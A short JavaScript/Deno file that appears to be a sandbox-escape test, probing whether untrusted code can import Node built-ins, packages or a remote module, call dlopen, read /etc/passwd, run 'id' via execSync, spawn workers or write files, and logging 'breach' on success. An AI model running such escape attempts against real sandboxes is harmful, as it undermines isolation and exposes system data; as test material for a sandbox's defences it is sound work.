// Attack: loads foreign code: modules of Node, packages, libraries.
const names = ["node:fs", "node:child_process", "node:module", "node:sqlite",
  "node:worker_threads", "node:vm", "node:process", "npm:chalk@5", "jsr:@std/fs",
  "https://example.org/mod.ts"];
for (const name of names) {
  try {
    console.log("breach", await import(name));
  } catch (_) { /* The next. */ }
}
const tries = [
  () => Deno.dlopen("libc.so.6", {}),
  () => globalThis.process.getBuiltinModule("node:fs").readFileSync("/etc/passwd"),
  () => globalThis.process.binding("fs").open("/etc/passwd"),
  () => globalThis.process.getBuiltinModule("node:module")
    .createRequire("file:///x.js")("/etc/passwd"),
  () => globalThis.process.getBuiltinModule("node:child_process").execSync("id"),
  () => new (globalThis.process.getBuiltinModule("node:worker_threads").Worker)("/x.js"),
  () => globalThis.process.getBuiltinModule("node:v8")
    .writeHeapSnapshot("/tmp/trapeze_breach"),
  () => globalThis.process.getBuiltinModule("node:sqlite") &&
    new (globalThis.process.getBuiltinModule("node:sqlite").DatabaseSync)("/tmp/trapeze_breach"),
];
for (const attempt of tries) {
  try {
    attempt();
    console.log("breach", String(attempt));
  } catch (_) { /* The next. */ }
}
export function run() {}
